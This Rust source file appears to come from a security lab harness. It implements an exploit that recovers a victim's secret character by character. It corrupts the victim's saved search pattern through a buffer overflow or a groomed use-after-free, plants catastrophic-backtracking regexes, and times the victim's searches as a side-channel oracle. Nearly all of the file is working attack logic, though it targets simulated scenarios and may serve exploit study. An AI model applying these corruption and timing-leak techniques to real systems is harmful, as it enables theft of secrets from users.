use serde::Serialize;

use super::oracle::{decide, probe_pattern, terminator_pattern, OracleOptions, TimingSample};
use super::{groom_uaf, ExploitError};
use crate::host::layout::{XSLEAK_ATTACKER_SLOT, XSLEAK_SLOT_LEN};
use crate::host::{Scenario, Vector};
use crate::scenarios::{Requester, ScenarioState};

pub const DEFAULT_ALPHABET: &str = "abcdefghijklmnopqrstuvwxyz0123456789";

/// Heap copy size that lands in the freed 64-byte pattern chunk.
const UAF_PAYLOAD_LEN: usize = 56;

/// Guess recorded for the end-of-secret probe.
const TERMINATOR: char = '\n';

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Reconstruction {
    pub recovered: String,
    /// Victim searches forced.
    pub searches: u64,
    /// Pattern overwrites attempted.
    pub overwrites: u64,
    /// Overwrites the guest refused, and the last refusal code.
    pub failed_overwrites: u64,
    pub last_overwrite_error: Option<String>,
    pub threshold: f64,
    pub min_hit: Option<f64>,
    pub max_miss: Option<f64>,
    /// Positions re-measured with doubled samples after several hits.
    pub retries: u32,
    #[serde(skip)]
    pub error: Option<ExploitError>,
}

impl Reconstruction {
    pub fn result(&self) -> Result<&str, &ExploitError> {
        match &self.error {
            Some(e) => Err(e),
            None => Ok(&self.recovered),
        }
    }

    fn note(&mut self, hit: bool, observable: f64) {
        let slot = if hit { &mut self.min_hit } else { &mut self.max_miss };
        *slot = Some(match *slot {
            None => observable,
            Some(v) if hit => v.min(observable),
            Some(v) => v.max(observable),
        });
    }
}

/// Plants `pattern` as the victim's saved search pattern through the
/// build's corruption primitive.
fn overwrite_pattern(state: &mut ScenarioState, pattern: &str) -> Result<(), ExploitError> {
    let mut bytes = pattern.as_bytes().to_vec();
    bytes.push(0);
    match state.vector() {
        Vector::Bof => {
            // Fill the attacker's slot, run into the adjacent pattern buffer.
            let mut payload = vec![b'X'; XSLEAK_SLOT_LEN as usize];
            payload.extend_from_slice(&bytes);
            state.xsleak_store_secret(Requester::Attacker, XSLEAK_ATTACKER_SLOT, &payload)?;
        }
        Vector::Uaf => {
            if bytes.len() < UAF_PAYLOAD_LEN {
                bytes.resize(UAF_PAYLOAD_LEN, b'P');
            }
            groom_uaf(state, &bytes)?;
        }
        other => return Err(ExploitError::Unsupported(format!("no pattern overwrite in the {other} build"))),
    }
    Ok(())
}

/// Overwrites the pattern and forces `samples` victim searches. `None`
/// when the overwrite was refused.
fn probe(
    state: &mut ScenarioState,
    rec: &mut Reconstruction,
    guess: char,
    pattern: &str,
    samples: u32,
) -> Result<Option<Vec<TimingSample>>, ExploitError> {
    rec.overwrites += 1;
    match overwrite_pattern(state, pattern) {
        Ok(()) => {}
        Err(e @ ExploitError::Unsupported(_)) => return Err(e),
        Err(e) => {
            rec.failed_overwrites += 1;
            rec.last_overwrite_error = Some(e.code().to_string());
            return Ok(None);
        }
    }
    let out = (0..samples.max(1))
        .map(|_| {
            rec.searches += 1;
            let r = state.xsleak_search(Requester::Victim, None);
            TimingSample {
                guess,
                elapsed: r.elapsed,
                steps: Some(r.steps),
            }
        })
        .collect();
    Ok(Some(out))
}

fn is_hit(
    state: &mut ScenarioState,
    rec: &mut Reconstruction,
    guess: char,
    pattern: &str,
    opts: &OracleOptions,
    samples: u32,
) -> Result<bool, ExploitError> {
    let Some(s) = probe(state, rec, guess, pattern, samples)? else {
        return Ok(false);
    };
    let d = &decide(&s, opts.mode, rec.threshold)[0];
    rec.note(d.hit, d.observable);
    Ok(d.hit)
}

/// Recovers the victim's first secret one character at a time. At each
/// position every candidate is planted as `^<known><c>(.+){21}` and the
/// victim's search is timed; the candidate that blows up the matcher is
/// the next character. When nothing hits, a terminator probe decides
/// between "secret complete" and `EEXHAUSTED`.
pub fn reconstruct_secret(
    state: &mut ScenarioState,
    alphabet: &str,
    max_len: u32,
    opts: &OracleOptions,
    threshold: f64,
) -> Reconstruction {
    let mut rec = Reconstruction {
        recovered: String::new(),
        searches: 0,
        overwrites: 0,
        failed_overwrites: 0,
        last_overwrite_error: None,
        threshold,
        min_hit: None,
        max_miss: None,
        retries: 0,
        error: None,
    };
    if let Err(e) = run(state, alphabet, max_len, opts, &mut rec) {
        rec.error = Some(e);
    }
    rec
}

fn run(
    state: &mut ScenarioState,
    alphabet: &str,
    max_len: u32,
    opts: &OracleOptions,
    rec: &mut Reconstruction,
) -> Result<(), ExploitError> {
    if state.scenario() != Scenario::Xsleak {
        return Err(ExploitError::Unsupported("reconstruction needs the search scenario".into()));
    }
    let mut candidates: Vec<char> = Vec::new();
    for c in alphabet.chars() {
        if !candidates.contains(&c) {
            candidates.push(c);
        }
    }
    while rec.recovered.chars().count() < max_len as usize {
        let position = rec.recovered.chars().count();
        let mut samples = opts.samples.max(1);
        let mut retried = false;
        let hits = loop {
            let mut hits = Vec::new();
            for &c in &candidates {
                let pattern = probe_pattern(&format!("{}{c}", rec.recovered), opts.style);
                if is_hit(state, rec, c, &pattern, opts, samples)? {
                    hits.push(c);
                    if !opts.exhaustive {
                        break;
                    }
                }
            }
            if hits.len() > 1 && !retried {
                retried = true;
                rec.retries += 1;
                samples *= 2;
                continue;
            }
            break hits;
        };
        match hits[..] {
            [c] => rec.recovered.push(c),
            [] => {
                let pattern = terminator_pattern(&rec.recovered, opts.style);
                if position > 0 && is_hit(state, rec, TERMINATOR, &pattern, opts, samples)? {
                    return Ok(());
                }
                return Err(ExploitError::Exhausted {
                    position,
                    recovered: rec.recovered.clone(),
                });
            }
            _ => return Err(ExploitError::Ambiguous { position, hits }),
        }
    }
    Ok(())
}
